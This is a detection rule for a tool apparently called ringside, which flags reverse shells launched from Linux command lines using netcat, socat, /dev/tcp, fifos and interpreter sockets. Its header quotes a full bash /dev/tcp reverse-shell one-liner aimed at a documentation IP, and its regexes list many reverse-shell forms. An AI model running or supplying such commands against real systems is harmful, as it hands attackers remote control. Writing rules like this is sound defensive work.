// ringside: title="Reverse shell on a command line" technique=T1059.004,T1095 level=high tags=linux,execution
//
// A shell, netcat, socat or an interpreter is told to give its input and output to somebody elsewhere. It is seen where the whole of it stands on one
// command line: after `sh -c`, as web shells, exploits and cron jobs start it. What is typed at a prompt is redirected by that shell and names nothing.
//
//     $ sudo ringside run reverse-shell.js -o line
//     time=2026-05-04T09:14:02.050000000Z level=high rule=reverse-shell message="www-data below apache2: sh -c bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\""
//
// Known false positives: penetration tests. Scripts that wait for a port with </dev/tcp/HOST/PORT are not reported, since no shell is at the other end.
// References: https://attack.mitre.org/techniques/T1059/004/ https://gtfobins.github.io/#+reverse%20shell

import { shells } from "ringside:lists";
import { shorten } from "ringside:text";

const netcats = ["nc", "nc.traditional", "nc.openbsd", "ncat", "netcat", "busybox"];
const speaksSockets = /^(python|perl|ruby|php|lua|node|awk|gawk|tclsh)[\d.]*$/;

const awkTalks = /\/inet\/(tcp|udp)\/.*\|&/;

const interactive = /(^|[\s;&|'"])(\/\S*\/)?(ba|da|z|k)?sh\s+-\w*i\b/;
const readsCommands = /while\s+read\b.*\$\w+.*[<>]&\s*\d|\bsh\s*<&\s*\d|exec\s+\d*<&\s*\d+.*\bsh\b/;
const execsShell = /\s-(\w*[ec]|-exec|-sh-exec)\s+["']?(\/\S*\/)?(ba|da|z|k|c)?sh\b/;
const socatShell = /\b(exec|system):["']?(\/\S*\/)?(ba|da|z|k)?sh\b/i;
const socatFar = /\b(tcp|udp|openssl|ssl)[46]?(-connect|-listen)?:/i;
const fifo = /\b(mkfifo|mknod)\b.*\bsh\b.*\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b/;
const fifoBack = /\b(mkfifo|mknod)\b.*\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b.*\|\s*(\/\S*\/)?(ba|da|z|k)?sh\b/;
const socket = /\b(socket|fsockopen|TCPSocket|net\.connect|net\.Socket|\/inet\/tcp)\b/i;
const givesShell = /\bdup2\b|\bpty\.spawn\b|\b(exec\w*|system|popen|spawn\w*|call|passthru|shell_exec)\b\W{0,4}(\/\S*\/)?(ba|da|z|k)?sh\b/i;

procs
    .where(
        (name.in(shells) &&
            cmdline.matches(/\/dev\/(tcp|udp)\/\S+\/\d+/) &&
            (cmdline.matches(interactive) || cmdline.matches(readsCommands))) ||
            (name.in(shells) && (cmdline.matches(fifo) || cmdline.matches(fifoBack))) ||
            (name.in(netcats) && cmdline.matches(execsShell)) ||
            (name == "socat" && cmdline.matches(socatShell) && cmdline.matches(socatFar)) ||
            (name.in(["gawk", "mawk", "awk"]) && cmdline.matches(awkTalks)) ||
            (name.matches(speaksSockets) && cmdline.matches(socket) && cmdline.matches(givesShell)),
    )
    .alert((e) => `${e.user} below ${e.parent}: ${shorten(e.cmdline)}`);
